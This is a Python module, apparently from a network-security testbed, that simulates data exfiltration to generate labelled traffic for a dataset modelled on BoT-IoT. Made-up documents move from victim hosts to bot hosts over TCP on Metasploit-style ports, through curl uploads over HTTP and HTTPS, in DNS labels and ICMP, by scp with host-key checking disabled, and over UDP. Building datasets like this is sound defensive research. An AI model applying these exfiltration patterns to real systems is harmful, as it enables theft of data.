"""Data exfiltration, played: made-up documents leave victims for bots over several protocols.

Nothing is stolen. As in BoT-IoT, a victim holds a connection to a bot; ports are those of its
Metasploit sessions, and those on which such traffic hides.
"""

from testbed.hosts import Host
from testbed.network import python_module
from testbed.orders import WEB_VICTIMS, Draw, Kind, Order

SUBCATEGORIES = {"Data_Exfiltration": (2, 4)}
TIMEOUT_S = 8.0


def pairs(draw: Draw) -> list[tuple[Host, Host]]:
    """Choose one or two victims for each bot."""
    return [
        (victim, bot)
        for bot in draw.bots
        for victim in draw.rng.sample(WEB_VICTIMS, draw.rng.randint(1, 2))
    ]


def _bytes(draw: Draw) -> str:
    return f"{round(draw.packets * draw.rng.uniform(40, 160) / len(draw.bots))}"


def _seed(draw: Draw) -> str:
    return f"{draw.rng.randrange(10**6)}"


def listening(draw: Draw, how: str, port: int) -> list[Order]:
    """Return a listener on each bot."""
    keys = [f"{draw.scratch}/{name}.pem" for name in ("certificate", "key")]
    more = keys if how == "https" else []
    return [
        Order(bot, python_module("tools.listener", how, f"{port}", *more), wait=False)
        for bot in draw.bots
    ]


def _documents(draw: Draw, carrier: str, port: int) -> list[Order]:
    return [
        Order(
            victim,
            python_module("tools.documents", carrier, bot.address, f"{port}", _bytes(draw),
                          _seed(draw)),
            TIMEOUT_S,
        )
        for victim, bot in pairs(draw)
    ]  # fmt: skip


def session(draw: Draw) -> list[Order]:
    """Chunks over one long-lived TCP connection, which the bot answers now and then."""
    port = draw.rng.choice((4444, 4433, 8443, 443, 80))
    return [*listening(draw, "tcp", port), *_documents(draw, "tcp", port)]


def _upload(draw: Draw, scheme: str, port: int) -> list[Order]:
    """Let curl post some documents, each over a connection of its own or all over one."""
    rng = draw.rng
    orders = listening(draw, scheme, port)
    for victim, bot in pairs(draw):
        files = [
            f"{draw.scratch}/documents/{rng.randrange(7)}.txt" for _ in range(rng.randint(2, 6))
        ]
        url = f"{scheme}://{bot.address}:{port}/up"
        posts = []
        for number, file in enumerate(files):
            posts += [*(["--next"] if number else []), "-s", "-k", "-o", "/dev/null",
                      "--limit-rate", f"{rng.choice((20, 60, 200))}k", "--data-binary",
                      f"@{file}", url]  # fmt: skip
        orders.append(Order(victim, ["curl", *posts], TIMEOUT_S))
    return orders


def http_upload(draw: Draw) -> list[Order]:
    """Documents posted to a web server on the bot."""
    return _upload(draw, "http", draw.rng.choice((80, 8000, 8888)))


def https_upload(draw: Draw) -> list[Order]:
    """Post documents over TLS."""
    return _upload(draw, "https", draw.rng.choice((443, 8443)))


def dns(draw: Draw) -> list[Order]:
    """Documents in the labels of DNS questions."""
    return [*listening(draw, "dns", 53), *_documents(draw, "dns", 53)]


def icmp(draw: Draw) -> list[Order]:
    """Documents in ICMP echo requests, which the bot's kernel answers."""
    return _documents(draw, "icmp", 0)


def sftp(draw: Draw) -> list[Order]:
    """Documents copied by SFTP to the bot's SSH server."""
    rng = draw.rng
    orders = [
        Order(bot, ["/usr/sbin/sshd", "-D", "-f", f"{draw.scratch}/sshd_config"], wait=False)
        for bot in draw.bots
    ]
    for victim, bot in pairs(draw):
        files = [
            f"{draw.scratch}/documents/{rng.randrange(7)}.txt" for _ in range(rng.randint(1, 4))
        ]
        orders.append(
            Order(
                victim,
                ["scp", "-q", "-l", f"{rng.choice((400, 1500, 8000))}", "-i",
                 f"{draw.scratch}/user_key", "-o", "StrictHostKeyChecking=no", "-o",
                 "UserKnownHostsFile=/dev/null", *files, f"root@{bot.address}:{draw.scratch}/got"],
                TIMEOUT_S,
            )
        )  # fmt: skip
    return orders


def udp(draw: Draw) -> list[Order]:
    """Chunks in UDP datagrams."""
    port = draw.rng.choice((5555, 123, 40_001))
    return [*listening(draw, "udp", port), *_documents(draw, "udp", port)]


KINDS: dict[str, Kind] = {
    "session": session, "http_upload": http_upload, "https_upload": https_upload, "dns": dns,
    "icmp": icmp, "sftp": sftp,
}  # fmt: skip
NOVEL: dict[str, Kind] = {"udp": udp}
